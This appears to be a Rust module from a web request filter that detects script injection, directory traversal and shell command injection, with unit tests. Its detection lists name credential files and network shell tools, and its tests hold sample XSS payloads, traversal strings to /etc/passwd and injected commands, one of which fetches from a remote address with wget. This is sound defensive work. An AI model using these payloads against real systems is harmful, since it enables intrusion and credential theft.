//! Attacks in a value or a path that are no fixed words: script, traversal of directories, commands of a shell.

use std::borrow::Cow;

/// Files that nobody asks a web server for in good faith (`OWASP` "Path Traversal"), in plain form.
const FILES: [&str; 16] = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/etc/group",
    "/proc/self/",
    "windows/win.ini",
    "winnt/win.ini",
    "/boot.ini",
    "windows/system32/",
    "winnt/system32/",
    "web-inf/web.xml",
    "/.ssh/id_rsa",
    "/.bash_history",
    "php://input",
    "php://filter",
    "/.aws/credentials",
];
/// Commands that stand in no other text behind a separator.
const RARE: [&str; 24] = [
    "whoami",
    "uname",
    "wget",
    "curl",
    "busybox",
    "tftp",
    "/bin/sh",
    "/bin/bash",
    "/bin/cat",
    "/bin/busybox",
    "/usr/bin/id",
    "powershell",
    "powershell.exe",
    "cmd.exe",
    "cmd",
    "ifconfig",
    "ipconfig",
    "netstat",
    "certutil",
    "chmod",
    "nslookup",
    "telnetd",
    "mkfifo",
    "phpinfo()",
];
/// Commands that are words or names of fields as well: only with an argument that is one.
const COMMON: [&str; 16] = [
    "id", "ls", "cat", "echo", "ping", "sleep", "nc", "ncat", "rm", "sh", "bash", "python", "python3",
    "perl", "php", "type",
];

/// Script that a page would show (`OWASP` "Cross Site Scripting").
pub(super) fn script(text: &str) -> bool {
    // The colon is that of `javascript:`.
    if !text.bytes().any(|byte| matches!(byte, b'<' | b'"' | b'\'' | b':')) {
        return false;
    }
    if !text.contains(['<', '"', '\'']) && !text.contains("javascript:") {
        return false;
    }
    let tag = |name: &str| {
        text.match_indices(name).any(|(at, found)| {
            let after = text.get(at + found.len()..).and_then(|rest| rest.chars().next());
            after.is_none_or(|letter| matches!(letter, ' ' | '>' | '/'))
        })
    };
    if tag("<script") || text.contains("<svg/onload") || text.contains("javascript:alert(") {
        return true;
    }
    // A handler within a tag, or behind a quote that leaves an attribute.
    let handlers = [
        " onerror=",
        " onload=",
        " onmouseover=",
        " onfocus=",
        " onclick=",
        " ontoggle=",
        " onpageshow=",
        "/onerror=",
    ];
    let begins = text.find('<').or_else(|| text.find("\" ")).or_else(|| text.find("' "));
    begins.is_some_and(|at| {
        let rest = text.get(at..).unwrap_or_default();
        handlers.iter().any(|handler| rest.contains(handler))
    })
}

/// A path that leaves its root by more than one level, or names a file that is none of the site's.
pub(super) fn traversal_in_path(path: &str) -> bool {
    let path = slashes(path);
    let (mut depth, mut lowest) = (0_i32, 0_i32);
    for part in path.split('/').filter(|part| !part.is_empty() && *part != ".") {
        // Java servers cut what follows a semicolon: `/..;/` (CVE-2020-5902).
        let part = part.split(';').next().unwrap_or_default();
        depth += if part == ".." { -1 } else { 1 };
        lowest = lowest.min(depth);
    }
    lowest <= -2 || (path.contains("..") && names_file(&path))
}

/// A value that climbs three levels, or climbs at all to a file that is none of the site's, or is such a file.
pub(super) fn traversal_in_value(value: &str) -> bool {
    // Every file has a slash in its name.
    if !value.bytes().any(|byte| matches!(byte, b'/' | b'\\')) {
        return false;
    }
    let value = slashes(value);
    let named = value.strip_prefix("file://");
    let climbs = || value.contains("../../../") || value.contains("....//....//") || names_file(&value);
    (value.contains("../") && climbs())
        || FILES
            .iter()
            .any(|file| value.starts_with(file) || named.is_some_and(|named| named.starts_with(file)))
}

/// With the slashes of Windows turned.
fn slashes(path: &str) -> Cow<'_, str> {
    if path.contains('\\') { path.replace('\\', "/").into() } else { path.into() }
}

fn names_file(path: &str) -> bool {
    FILES.iter().any(|file| path.contains(file))
}

/// A command of a shell behind what separates commands. Where it begins.
pub(super) fn command(value: &str) -> Option<usize> {
    if !value.bytes().any(|byte| matches!(byte, b';' | b'|' | b'`' | b'&' | b'$')) {
        return None;
    }
    let after_address = |at: usize| {
        let before = value.get(..at).unwrap_or_default().trim();
        before.split('.').count() == 4 && before.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
    };
    for (at, letter) in value.char_indices() {
        let rest = value.get(at..).unwrap_or_default();
        let skip = match letter {
            ';' | '|' | '`' => letter.len_utf8(),
            '&' if rest.starts_with("&&") => 2,
            '$' if rest.starts_with("$(") => 2,
            _ => continue,
        };
        let rest = value.get(at + skip..).unwrap_or_default().trim_start_matches([' ', '|', '(', '"', '\'']);
        let closes = letter == '`' || letter == '$';
        if is_command(rest, closes || after_address(at)) {
            return Some(at);
        }
    }
    None
}

/// A value that is itself a command with its argument, as a page that runs commands takes it.
pub(super) fn is_command(text: &str, bare_will_do: bool) -> bool {
    let end = text.find([' ', ';', '|', '>', '<', '`', '&', '$', '"', '\'']).unwrap_or(text.len());
    let (Some(word), Some(rest)) = (text.get(..end), text.get(end..)) else { return false };
    // `$(id)`: the bracket belongs to the shell.
    let word = if word.ends_with("()") { word } else { word.trim_end_matches(')') };
    if RARE.contains(&word) {
        return true;
    }
    if !COMMON.contains(&word) {
        return false;
    }
    let argument = rest.replace("${ifs}", " ").replace("$ifs", " ");
    let argument = argument.strip_prefix(' ').unwrap_or_default();
    let is_argument = argument.starts_with(['/', '-', '$', '"', '\'']) || argument.contains('/');
    is_argument || (bare_will_do && (rest.is_empty() || rest.starts_with([';', '|', '`', '>', '&', ' '])))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn script_is_found_and_markup_is_not() {
        for text in [
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "<svg/onload=alert(1)>",
        ] {
            assert!(script(text), "{text}");
        }
        for text in ["<b>bold</b>", "a < b", "the onload= handler", "<scripture>", "it's \"quoted\" text"] {
            assert!(!script(text), "{text}");
        }
    }

    #[test]
    fn climbing_out_is_found() {
        assert!(traversal_in_path("/cgi-bin/../../../../etc/passwd"));
        assert!(traversal_in_path("/tmui/login.jsp/..;/../../../x"));
        assert!(!traversal_in_path("/a/b/../../c"));
        assert!(!traversal_in_path("/../index.html"));
        assert!(traversal_in_value("../../../../x") && traversal_in_value("..\\..\\windows\\win.ini"));
        assert!(traversal_in_value("/etc/passwd") && traversal_in_value("php://filter/read=x"));
        assert!(!traversal_in_value("../img/logo.png") && !traversal_in_value("how to edit /etc/passwd"));
    }

    #[test]
    fn commands_are_found_and_lists_of_fields_are_not() {
        for text in [
            "127.0.0.1;id",
            "127.0.0.1 | ls",
            "x;cat /etc/passwd",
            "$(id)",
            "`wget http://192.0.2.1/x`",
            "a && whoami",
            "a|cat${ifs}/etc/x",
            ";busybox",
        ] {
            assert!(command(text).is_some(), "{text}");
        }
        for text in
            ["name|id", "sort;id;name", "tom & jerry", "a; echo of the past", "black|cat|dog", "$100 (id)"]
        {
            assert!(command(text).is_none(), "{text}");
        }
    }
}
